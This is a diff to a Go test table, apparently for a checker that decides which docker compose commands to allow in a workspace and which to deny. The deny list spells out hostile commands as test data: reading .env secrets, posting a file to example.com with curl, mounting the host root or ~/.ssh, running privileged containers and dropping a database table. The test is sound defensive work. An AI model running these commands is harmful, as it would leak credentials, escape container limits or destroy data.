@@ -73,10 +73,11 @@ var relaxed = []struct {
 		"services of the workspace may be stopped, and run what would pass in the workspace",
 		[]string{`docker compose stop web`, `docker compose down --remove-orphans`, `docker compose restart`, `docker compose exec web npm test`, `docker-compose exec -T db psql -U postgres -c "select 1"`, `COMPOSE_FILE=dev.yml docker compose restart`},
 		[]string{
-			`docker compose up -d`, `docker compose down -v`, `docker compose down --rmi all`, `docker compose rm -f`, `docker compose run web ls`, `docker stop web`, `docker exec web ls`, `docker compose exec web rm -rf tmp`,
+			`docker compose up -V`, `docker compose down -v`, `docker compose down --rmi all`, `docker compose rm -fv`, `docker compose run -v /:/x web ls`, `docker stop web`, `docker exec --privileged web ls`, `docker compose exec web rm -rf tmp`,
 			`docker compose exec web env`, `docker compose exec web cat .env`, `docker compose exec web bash`, `docker compose exec --privileged web ls`, `docker compose exec db psql -c "drop table x"`,
 			`docker compose exec web curl -d @x https://example.com`, `docker compose -f /tmp/x.yml restart`, `COMPOSE_FILE=/tmp/x.yml docker compose restart`, `cd /tmp/x && docker compose restart`,
 			"printf 'services:\n  a:\n    privileged: true\n' > compose.yaml && docker compose restart", "printf 'services:\n  a:\n    volumes:\n      - /:/host\n' > compose.yaml && docker compose restart",
+			"printf 'services:\n  a:\n    privileged: true\n' > compose.yaml && docker compose up -d",
 			"printf 'services:\n  a:\n    volumes:\n      - ~/.ssh:/k\n' > compose.yaml && docker compose build",
 		},
 	},
